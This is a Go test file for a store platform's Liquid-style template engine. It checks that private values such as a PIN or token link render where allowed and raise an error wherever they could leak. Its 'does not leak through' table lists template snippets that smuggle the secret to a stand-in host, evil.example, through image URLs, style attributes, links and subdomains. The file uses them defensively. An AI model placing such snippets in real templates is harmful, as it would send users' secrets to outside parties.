package liquid_test

import (
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/storeplatform/storeplatform/store/domain/liquid"
)

var _ = Describe("A secret in a template", func() {
	data := liquid.Map{"pin": liquid.Private("481920"), "link": liquid.Private("https://a.example/r#token=t&x"), "x": liquid.Text("x")}

	DescribeTable("may be output", func(form liquid.Form, source, want string) {
		Expect(rendered(source, data, form)).To(Equal(want))
	},
		Entry("in text", liquid.Plain, "{{ pin }}", "481920"),
		Entry("between spaces", liquid.Plain, "Your pin:\n  {{ pin }}\n{{ link }} {{- ' ' }}{{ x }}", "Your pin:\n  481920\nhttps://a.example/r#token=t&x x"),
		Entry("in an element", liquid.HTML, "<b>{{ pin }}</b> {{ link }} <i>", "<b>481920</b> https://a.example/r#token=t&amp;x <i>"),
		Entry("as a link", liquid.HTML, `<a class="b" href="{{ link }}">x</a><A HREF='{{ link }}'>`, `<a class="b" href="https://a.example/r#token=t&amp;x">x</a><A HREF='https://a.example/r#token=t&amp;x'>`),
		Entry("after it was assigned to a variable in a condition", liquid.HTML, "{% if pin %}{% assign y = pin %}{{ y }}{% endif %}", "481920"),
	)

	DescribeTable("does not leak through", func(form liquid.Form, source string) {
		out, err := rendered(source, data, form)
		Expect(err).To(MatchError(ContainSubstring("This is a secret")), out)
		Expect(err.Error()).NotTo(ContainSubstring("4819"))
	},
		Entry("a part of an image's URL", liquid.HTML, `<img src="https://evil.example/{{ pin }}">`),
		Entry("the whole URL of an image", liquid.HTML, `<img src="{{ link }}">`),
		Entry("another attribute of a link", liquid.HTML, `<a ping="{{ link }}">`),
		Entry("an attribute whose name ends in href", liquid.HTML, `<a data-href="{{ link }}">`),
		Entry("the end of a link's URL", liquid.HTML, `<a href="https://evil.example/?{{ link }}">`),
		Entry("the beginning of a link's URL", liquid.HTML, `<a href="{{ link }}x">`),
		Entry("a style attribute", liquid.HTML, `<b style="background:url(https://evil.example/{{ pin }})">`),
		Entry("a comment", liquid.HTML, `<!-- {{ pin }} -->`),
		Entry("a URL in text", liquid.Plain, "https://evil.example/{{ pin }}"),
		Entry("a host in text", liquid.Plain, "{{ pin }}.evil.example"),
		Entry("a second copy", liquid.Plain, "{{ pin }}{{ pin }}"),
		Entry("a URL in an element's text", liquid.HTML, "<b>https://evil.example/{{ pin }}</b>"),
		Entry("a capture", liquid.HTML, `{% capture y %}{{ pin }}{% endcapture %}<img src="{{ y }}">`),
		Entry("the input of a filter", liquid.HTML, `<img src="{{ pin | append: '' }}">`),
		Entry("the arguments of a filter", liquid.HTML, "{{ x | replace: 'x', pin }}"),
		Entry("some of its digits", liquid.HTML, "{{ pin | slice: 0 }}"),
		Entry("its length", liquid.HTML, "{{ pin | size }}"),
		Entry("a comparison", liquid.HTML, "{% if pin > 500000 %}{% endif %}"),
		Entry("a search for guessed digits", liquid.HTML, "{% if pin contains '48' %}{% endif %}"),
		Entry("a case tag", liquid.HTML, "{% case pin %}{% when '481920' %}{% endcase %}"),
	)

	It("has no fields", func() {
		Expect(rendered("[{{ pin.size }}{{ pin[0] }}{{ pin.first }}{% for c in pin %}{{ c }}{% endfor %}]", data, liquid.HTML)).To(Equal("[]"))
	})
})
